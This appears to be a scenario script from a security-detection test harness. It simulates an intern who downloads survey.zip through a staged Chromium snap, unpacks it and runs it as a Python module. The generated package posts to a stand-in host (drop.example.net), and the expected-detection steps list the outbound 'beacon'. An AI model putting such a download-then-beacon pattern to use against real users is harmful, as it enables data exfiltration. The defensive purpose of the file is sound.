# A browser in a sandbox of its own folders, and a package run as a module.
title="Archive saved below ~/snap, its package run with python3 -m under script(1)"
what="Chromium out of a snap's image, mounted read-only at /snap/chromium/3000, saves survey.zip from a private webmail account below ~/snap/chromium; the intern unpacks it there and runs python3 -m survey inside script(1). The package posts to 203.0.113.66."
host=ws3.example.org user=intern daemons="cron" syslog_format=iso
stand_ins=("snapd needs systemd as process 1, and its store: the image is made by the laboratory of Debian's Chromium and mounted where snapd does it, and the browser is started with the folders that snap run gives it, without its confinement")

setup() {
  taken_from chromium; private /snap; mkdir -p "$base/out/snap/usr/lib" /snap/chromium/3000
  cp -rL /usr/lib/chromium "$base/out/snap/usr/lib/chromium-browser"; mv "$base/out/snap/usr/lib/chromium-browser/chromium" "$base/out/snap/usr/lib/chromium-browser/chrome"
  mksquashfs "$base/out/snap" "$base/out/chromium_3000.snap" -noI -noD -noF -noX -all-root >/dev/null 2>&1; rm -r "$base/out/snap"
  mknod "$base/dev/loop-control" c 10 237; local n; for n in 0 1 2 3 4 5 6 7; do mknod "$base/dev/loop$n" b 7 "$n"; done
  mount -t squashfs -o loop,ro,nodev "$base/out/chromium_3000.snap" /snap/chromium/3000 && ln -s 3000 /snap/chromium/current || return 1
  mkdir -p "$base/out/t/survey" "$base/out/www/mail"; touch "$base/out/t/survey/__init__.py"
  printf 'import urllib.request\nurllib.request.urlopen("http://drop.example.net/s", b"hello").read()\nprint("thank you")\n' > "$base/out/t/survey/__main__.py"
  (cd "$base/out/t" && zip -qr "$base/out/www/mail/survey.zip" survey)
  local each; for each in '' /chromium /chromium/3000 /chromium/common /chromium/common/Downloads; do install -d -o intern -g intern "/home/intern/snap$each"; done
}
act() {
  display_up
  small_talk 2
  chromium=/snap/chromium/3000/usr/lib/chromium-browser/chrome downloads=/home/intern/snap/chromium/common/Downloads
  chromium_as intern https://webmail.example.com/mail/survey.zip HOME=/home/intern/snap/chromium/3000 SNAP=/snap/chromium/3000 SNAP_USER_COMMON=/home/intern/snap/chromium/common
  wait_file "$downloads/survey.zip" 40; sleep 2; desktop_close
  console_as intern <<'L'
cd snap/chromium/common/Downloads
unzip -q survey.zip
script -qc 'python3 -m survey' /dev/null
L
  umount /snap/chromium/3000
}
truth() {
  net_step visit 'chrome.* 203.0.113.83:443' 'the browser visits a webmail service that is not ours'
  file_step save 'chrome (rename|link) .*CREATE .*/snap/chromium/common/Downloads/survey.zip$' 'and saves the archive'
  exec_step unpack 'unzip -q survey.zip' 'it is unpacked'
  exec_step execute 'python3.11 python3 -m survey' 'its package is run'
  net_step beacon 'python3.* 203.0.113.66:80' 'and posts'
}
